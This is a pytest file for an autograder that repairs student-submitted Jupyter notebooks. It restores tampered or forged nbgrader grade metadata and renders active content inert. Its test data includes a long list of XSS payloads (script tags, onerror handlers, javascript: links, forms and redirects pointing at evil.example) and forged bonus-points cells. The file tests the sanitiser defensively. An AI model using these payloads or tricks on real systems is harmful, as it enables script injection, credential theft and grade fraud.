"""Submitted cells: recognised, repaired, and nothing active among them."""

from __future__ import annotations

import copy
import json
from typing import Any

import nbformat
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from autograder.adapters.nbgrader.cells import expected_cells, from_submission, restore
from autograder.adapters.nbgrader.markup import as_code, harmless, is_inert
from autograder.adapters.nbgrader.shapes import read_notebook, repaired
from autograder.submissions import Cell
from tests.nbgrader.answers import Notebook, cell_of, code, filled, grade_id, text, without
from tests.nbgrader.conftest import ROOT

RELEASED = ROOT / "assignments" / "gradient_descent" / "gradient_descent.ipynb"
ANSWERS = {name: f"def {name}(*arguments):\n    return 1" for name in ("Loss", "gradient_descent", "main")}
EXERCISES = ["Loss", "gradient_descent", "main"]

# nbconvert's parser of markdown is a subclass that its library no longer likes.
pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning:nbconvert.*")


@pytest.fixture
def expected() -> list[Notebook]:
    """Return the cells that nbgrader knows of the released notebook."""
    return expected_cells(filled(RELEASED, {}))


@pytest.fixture
def handed_in() -> Notebook:
    """Return the released notebook with an answer to each exercise."""
    return filled(RELEASED, ANSWERS)


def ids(notebook: Notebook) -> list[str]:
    """Return the grade_ids of a notebook, in order."""
    return [name for cell in notebook["cells"] if (name := grade_id(cell))]


def assert_whole(notebook: Notebook) -> None:
    """Assert that a notebook is valid and holds each graded cell once, locked, behind its answer."""
    nbformat.validate(nbformat.from_dict(notebook))
    graded = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]
    assert [cell["metadata"]["nbgrader"]["grade_id"] for cell in graded] == EXERCISES
    assert [cell["metadata"]["nbgrader"]["points"] for cell in graded] == [2, 4, 4]
    assert [cell["source"] for cell in graded] == [f"%check {name}" for name in EXERCISES]
    assert not any(cell.get("outputs") for cell in notebook["cells"])


def kinds(notebook: Any, expected: list[Notebook]) -> tuple[Notebook, str]:
    """Return a restored notebook and its notes as one text."""
    restored, notes = restore(notebook, expected)
    return restored, " | ".join(note.message["en"] for note in notes)


def test_an_intact_notebook_stays_as_it_is(handed_in: Notebook, expected: list[Notebook]) -> None:
    """What was handed in as it should be has no notes, and all its cells."""
    restored, notes = kinds(handed_in, expected)
    assert not notes
    assert_whole(restored)
    assert [cell["source"] for cell in restored["cells"]] == ["".join(cell["source"]) for cell in handed_in["cells"]]
    assert [cell["id"] for cell in restored["cells"]] == [cell["id"] for cell in handed_in["cells"]]


def test_hidden_tests_that_were_cleared_are_no_change(handed_in: Notebook, expected: list[Notebook]) -> None:
    """The gradebook holds the hidden tests of a cell, the released notebook does not."""
    hidden = "### BEGIN HIDDEN TESTS\nassert secret()\n### END HIDDEN TESTS"
    cell_of({"cells": expected}, "Loss")["source"] += f"\n{hidden}"
    restored, notes = kinds(handed_in, expected)
    assert not notes
    assert "secret" in cell_of(restored, "Loss")["source"]


def test_a_test_is_known_by_the_part_of_it_that_was_released(handed_in: Notebook, expected: list[Notebook]) -> None:
    """A cell that has lost its metadata is the released one without its hidden tests."""
    cell_of({"cells": expected}, "Loss")["source"] += "\n### BEGIN HIDDEN TESTS\nassert 1\n### END HIDDEN TESTS"
    cell_of(handed_in, "Loss")["metadata"] = {}
    restored, notes = kinds(handed_in, expected)
    assert notes.endswith("recognised by what they hold: Loss.")
    assert len(restored["cells"]) == len(handed_in["cells"])


def test_deleted_cells_are_put_back_behind_their_answers(handed_in: Notebook, expected: list[Notebook]) -> None:
    """A grade cell that was deleted stands behind the answer that it shows the points of."""
    restored, notes = kinds(without(handed_in, "gradient_descent", "main"), expected)
    assert_whole(restored)
    assert "missing from the notebook and were put back: gradient_descent, main" in notes
    order = ids(restored)
    assert order.index("gradient_descent") == order.index("gradient_descent_answer") + 1
    assert order.index("main") == order.index("main_answer") + 1


def test_a_notebook_without_any_known_cell_gets_all_grade_cells(expected: list[Notebook]) -> None:
    """Whoever hands in a notebook of his own has a place for each exercise's points."""
    restored, _ = kinds({"cells": [text("my notes")]}, expected)
    assert_whole(restored)
    assert restored["cells"][0]["source"] == "my notes"


@pytest.mark.parametrize(
    "metadata",
    [
        {},
        {"nbgrader": None},
        {"nbgrader": [1]},
        {"nbgrader": "grade"},
        {"nbgrader": {"grade_id": ["Loss"], "grade": True}},
        {"nbgrader": {"grade_id": 3}},
        {"nbgrader": {"schema_version": "three", "grade": "yes"}},
    ],
)
def test_lost_or_senseless_metadata_are_made_good(
    handed_in: Notebook, expected: list[Notebook], metadata: dict[str, Any]
) -> None:
    """Cells whose metadata are lost or garbage are recognised by what they hold."""
    for cell in handed_in["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"] = copy.deepcopy(metadata)
    restored, notes = kinds(handed_in, expected)
    assert_whole(restored)
    assert ids(restored) == ids(filled(RELEASED, {}))
    assert "recognised by what they hold: Loss, gradient_descent, main" in notes


@pytest.mark.parametrize(
    "change",
    [
        {"points": 1000},
        {"points": "2"},
        {"points": None},
        {"points": -1},
        {"points": float("nan")},
        {"grade": False},
        {"grade": "true"},
        {"solution": True},
        {"task": True},
        {"cell_type": "markdown"},
        {"checksum": "0" * 32},
        {"checksum": 5},
        {"schema_version": 1},
        {"schema_version": 99},
        {"schema_version": None},
        {"locked": False},
        {"extra": {"deep": [1, 2]}},
    ],
)
def test_tampered_metadata_are_those_of_the_release_again(
    handed_in: Notebook, expected: list[Notebook], change: dict[str, Any]
) -> None:
    """Nothing that a student writes into nbgrader's metadata stays there."""
    for name in ("Loss", "Loss_answer"):
        cell_of(handed_in, name)["metadata"]["nbgrader"].update(change)
    restored, _ = kinds(handed_in, expected)
    assert_whole(restored)
    for name in ("Loss", "Loss_answer"):
        was = cell_of({"cells": expected}, name)["metadata"]["nbgrader"]
        assert cell_of(restored, name)["metadata"]["nbgrader"] == was


def test_an_answer_that_claims_points_is_no_grade_cell(handed_in: Notebook, expected: list[Notebook]) -> None:
    """Solution cells turned into grade cells are answers again, and that is told."""
    cell_of(handed_in, "main_answer")["metadata"]["nbgrader"].update(grade=True, points=50, solution=False)
    restored, notes = kinds(handed_in, expected)
    assert_whole(restored)
    assert "differed from the assignment's and were restored: main." in notes
    assert cell_of(restored, "main_answer")["source"] == ANSWERS["main"]


def test_forged_cells_lose_their_marks_and_keep_their_text(handed_in: Notebook, expected: list[Notebook]) -> None:
    """A grade cell that nbgrader does not know would cost the whole submission."""
    forged = code("100", grade=True, grade_id="bonus", points=100, solution=False, locked=True, schema_version=3)
    nameless = code("7", grade=True, points=1)
    handed_in["cells"][3:3] = [forged, nameless]
    restored, notes = kinds(handed_in, expected)
    assert_whole(restored)
    assert "taken away: bonus, ?" in notes
    assert {"100", "7"} <= {cell["source"] for cell in restored["cells"] if not cell["metadata"]}


def test_of_duplicated_cells_one_stays(handed_in: Notebook, expected: list[Notebook]) -> None:
    """A copy of a cell is an ordinary cell: the last of several answers counts, as it does in Python."""
    copied = copy.deepcopy(cell_of(handed_in, "Loss_answer"))
    copied["source"] = "def Loss(f_x, y):\n    return 2"
    handed_in["cells"] += [copied, copy.deepcopy(cell_of(handed_in, "main"))]
    restored, notes = kinds(handed_in, expected)
    assert_whole(restored)
    assert "more than once: Loss, main" in notes
    assert cell_of(restored, "Loss_answer")["source"].endswith("return 2")
    assert len({cell["id"] for cell in restored["cells"]}) == len(restored["cells"])


def test_renumbered_cells_are_told_by_what_they_define(handed_in: Notebook, expected: list[Notebook]) -> None:
    """Answers whose names were changed in the metadata are found by the functions that they define."""
    for number, name in enumerate(EXERCISES):
        cell_of(handed_in, f"{name}_answer")["metadata"]["nbgrader"]["grade_id"] = f"cell-{number}"
    restored, notes = kinds(handed_in, expected)
    assert_whole(restored)
    assert "recognised by what they hold: Loss, gradient_descent, main" in notes
    assert cell_of(restored, "main_answer")["source"] == ANSWERS["main"]


def test_an_answer_beside_the_untouched_stub_is_the_answer(expected: list[Notebook]) -> None:
    """Who leaves the stub and writes a cell of his own is answered in that cell."""
    handed_in = filled(RELEASED, {})
    handed_in["cells"].append(code(ANSWERS["Loss"]))
    restored, _ = kinds(handed_in, expected)
    assert_whole(restored)
    assert cell_of(restored, "Loss_answer")["source"] == ANSWERS["Loss"]


def test_what_was_typed_into_a_locked_cell_is_kept_beside_it(handed_in: Notebook, expected: list[Notebook]) -> None:
    """A locked cell is as it was, and the student's own lines stand in an ordinary cell before it."""
    cell_of(handed_in, "Loss")["source"] = "def Loss(f_x, y):\n    return 3"
    restored, notes = kinds(handed_in, expected)
    assert_whole(restored)
    assert "differed from the assignment's and were restored: Loss." in notes
    place = restored["cells"].index(cell_of(restored, "Loss"))
    assert restored["cells"][place - 1] == {
        **code("def Loss(f_x, y):\n    return 3"),
        "id": restored["cells"][place - 1]["id"],
    }


@pytest.mark.parametrize("kind", ["markdown", "raw"])
def test_a_switched_answer_is_code_again(handed_in: Notebook, expected: list[Notebook], kind: str) -> None:
    """A wrong key turns an answer into text, which its student does not see."""
    cell = cell_of(handed_in, "main_answer")
    cell["cell_type"] = kind
    del cell["outputs"], cell["execution_count"]
    restored, notes = kinds(handed_in, expected)
    assert_whole(restored)
    assert cell_of(restored, "main_answer")["cell_type"] == "code"
    assert cell_of(restored, "main_answer")["source"] == ANSWERS["main"]
    assert "restored: main." in notes


def test_a_percent_text_is_shown_in_cells(expected: list[Notebook]) -> None:
    """A `.py` file made from the notebook's text is shown as the notebook that it is."""
    source = "# %% [markdown]\n# # Title\n# $x$\n\n# %%\nimport numpy\n\n# %% nbgrader={}\n" + ANSWERS["Loss"]
    shown = from_submission([Cell("kim.py", source), Cell("more.py", ANSWERS["main"])], expected)
    assert_whole(shown)
    assert [cell["source"] for cell in shown["cells"][:2]] == ["# Title\n$x$", "import numpy"]
    assert cell_of(shown, "Loss_answer")["source"] == ANSWERS["Loss"]
    assert cell_of(shown, "main_answer")["source"] == ANSWERS["main"]


def test_nothing_readable_is_shown_as_nothing_but_points(expected: list[Notebook]) -> None:
    """Where nothing could be read there is a cell for each exercise's points, and no note on cells."""
    shown = from_submission((), expected)
    assert_whole(shown)
    assert len(shown["cells"]) == len(EXERCISES)


def test_old_formats_are_read(expected: list[Notebook]) -> None:
    """Notebooks of format 3 keep their cells in worksheets, call the text input and have headings."""
    sheet = {
        "cells": [
            {"cell_type": "heading", "level": 2, "source": ["My ", "work"], "metadata": {}},
            {"cell_type": "code", "input": ANSWERS["Loss"], "language": "python", "prompt_number": 3, "outputs": []},
        ]
    }
    restored, _ = kinds({"worksheets": [sheet], "nbformat": 3, "metadata": {"name": ""}}, expected)
    assert_whole(restored)
    assert restored["cells"][0]["source"] == "## My work"
    assert cell_of(restored, "Loss_answer")["source"] == ANSWERS["Loss"]


@pytest.mark.parametrize("broken", [None, 7, "text", [], {}, {"cells": 5}, {"cells": [None, 3, {}, {"source": 5}]}])
def test_what_is_no_notebook_is_an_empty_one(expected: list[Notebook], broken: Any) -> None:
    """Whatever JSON holds, there is a valid notebook with a cell for each exercise's points."""
    restored, _ = kinds(broken, expected)
    assert_whole(restored)


def test_constants_that_are_no_json_are_read() -> None:
    """Python writes NaN into a notebook, and a strict reader would refuse it."""
    notebook = read_notebook('{"cells": [{"cell_type": "code", "source": "1", "metadata": {"x": NaN}}]}')
    assert notebook
    assert notebook["cells"][0]["source"] == "1"
    assert read_notebook("{") is None
    assert read_notebook("[" * 100_000) is None


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["cells", "cell_type", "source", "metadata", "nbgrader", "grade_id", "attachments", "id"]),
            inner | st.sampled_from(["code", "markdown", "Loss", "Loss_answer"]),
            max_size=4,
        )
    ),
    max_leaves=12,
)


@given(cells=st.lists(JSON, max_size=5))
def test_any_cells_become_a_valid_notebook(cells: list[Any]) -> None:
    """Nothing that JSON can hold makes the repair fail."""
    expected = expected_cells(filled(RELEASED, {}))
    restored, _ = restore({"cells": cells, "metadata": cells}, expected)
    assert_whole(restored)


def test_outputs_and_metadata_of_students_are_dropped(handed_in: Notebook) -> None:
    """Ten megabytes of outputs, widget states and tags are read by nobody."""
    handed_in["metadata"] = {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": "</script>"}}}
    for cell in handed_in["cells"]:
        cell["metadata"]["tags"] = ['"><script>']
        if cell["cell_type"] == "code":
            html = {"text/html": "<script>1</script>" * 100}
            cell["outputs"] = [{"output_type": "display_data", "data": html, "metadata": {}}]
    assert "script" not in json.dumps(repaired(handed_in)).replace("%load_ext", "")


def test_only_pictures_stay_attached() -> None:
    """An attachment is a picture of a known kind, or it goes."""
    attachments = {
        "good.png": {"image/png": "iVBORw0KGgo="},
        "evil.png": {'image/png" onerror="alert(1)': "AAAA"},
        "page.html": {"text/html": "PHNjcmlwdD4="},
        "drawn.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"},
        "wrong.png": {"image/png": '"><script>'},
        "worse.png": 5,
    }
    found = repaired({"cells": [{**text("![x](attachment:good.png)"), "attachments": attachments}]})
    assert found
    assert found["cells"][0]["attachments"] == {"good.png": {"image/png": "iVBORw0KGgo="}}


ACTIVE = [
    "<script>alert(1)</script>",
    "a <ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data='javascript:1'></object>",
    "<embed src=x>",
    "<form action='https://evil.example'><input name=password></form>",
    "<input type=text>",
    "<button onclick=alert(1)>x</button>",
    "<style>body {display: none}</style>",
    "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b style='background: url(https://evil.example)'>x</b>",
    "<b style='position:fixed;top:0'>x</b>",
    "<div class='nbgrader_cell'>x</div>",
    "<b id='Loss'>x</b>",
    "<!-- --><script>1</script>",
    "<!--><img src=x onerror=alert(1)>",
    "<?xml version='1.0'?>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](vbscript:x)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[see](evil.html)",
    "[see](drawn.svg)",
    "[see](../../formgrader/api/x)",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\href{java" + "\t" + r"script:alert(1)}{x}$",
    r"$\require{action}\toggle{a}{b}\endtoggle$",
    "`x`<img src=x onerror=alert(1)>",
    "```\n```\n<script>1</script>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <img src=x onerror=alert(1)>",
    "\\<script>alert(1)</script>\\\\<script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    '<img src="x" alt="`" onerror="alert(1)" title="`">',
]


@pytest.mark.parametrize("source", ACTIVE)
def test_active_text_is_shown_as_it_was_typed(source: str) -> None:
    """Whatever could run, load or pose as the page in a teacher's browser becomes a block of code."""
    shown = harmless(source)
    assert shown == as_code(source)
    assert is_inert(markdown2html_mistune(shown))


@pytest.mark.parametrize(
    "source",
    [
        "$$\n<img src=x onerror=alert(1)>\n$$",
        "`````\n<script>1</script>",
        "<a/onmouseover=alert(1)>x</a>",
        "```\n<script>1</script>\n```\n<b",
    ],
)
def test_what_the_renderer_makes_harmless_may_stay(source: str) -> None:
    """Code and formulas are escaped by the renderer."""
    assert harmless(source) == source
    assert is_inert(markdown2html_mistune(source))


@pytest.mark.parametrize(
    "source", ["![x](attachment:gone.png)", "> " * 5000 + "x", "[" * 30_000, "*a " * 60_000, "- " * 3000 + "x"]
)
def test_what_a_page_would_fail_on_is_shown_as_it_was_typed(source: str) -> None:
    """A missing picture or endless nesting would cost the formgrader's page and the student's feedback."""
    assert harmless(source) == as_code(source)
    assert is_inert(markdown2html_mistune(as_code(source)))


@pytest.mark.parametrize(
    "source",
    [
        "# 제목\n\n$L = \\frac{1}{N} \\sum_i (y_i - f(x_i))^2$ 그리고 $a < b$, $a<b$",
        "$$\n\\begin{aligned} a &= b \\\\ &< c \\end{aligned}\n$$",
        "| $x$ | 값 |\n|:---|---:|\n| 1 | a < b |",
        "> quoted & *slanted* <b>bold</b> <br> x<sub>1</sub>",
        "```python\nif a < b: print('<script>')\n```",
        "`<script>` is a tag",
        "[numpy](https://numpy.org) <https://numpy.org> [file](notes.md) [mail](mailto:kim01@example.org)",
        '<img src="plot.png" width="300" alt="a plot"> ![y](https://example.org/a.png)',
        "- [ ] open\n- [x] done\n\n1. one\n2. two",
        "<span style='color: red'>red</span>, <font color=red>red</font>",
        "<details><summary>hint</summary>text</details>",
    ],
)
def test_ordinary_text_stays_as_it_is(source: str) -> None:
    """Formulas, tables, Korean, links, pictures and plain tags are not touched."""
    assert harmless(source) == source


def test_a_picture_in_the_cell_is_shown() -> None:
    """A text that shows a picture which is attached to it stays as it is."""
    assert harmless("![x](attachment:a.png)", attached=frozenset({"a.png"})) == "![x](attachment:a.png)"


def test_a_heading_does_not_take_the_name_of_a_field(handed_in: Notebook, expected: list[Notebook]) -> None:
    """A formgrader finds the field of a score by the name of its cell: a heading of that name would be found first."""
    handed_in["cells"] += [text("# Loss"), text("Loss-comment\n---"), text("# Losses")]
    restored, _ = kinds(handed_in, expected)
    sources = [cell["source"] for cell in restored["cells"][-3:]]
    assert sources == [as_code("# Loss"), as_code("Loss-comment\n---"), "# Losses"]


def test_raw_cells_are_shown_as_text() -> None:
    """A raw cell goes into a page as it is, so none is left."""
    found = repaired({"cells": [{"cell_type": "raw", "metadata": {}, "source": "<script>1</script>"}]})
    assert found
    assert found["cells"][0]["cell_type"] == "markdown"
    assert found["cells"][0]["source"] == as_code("<script>1</script>")
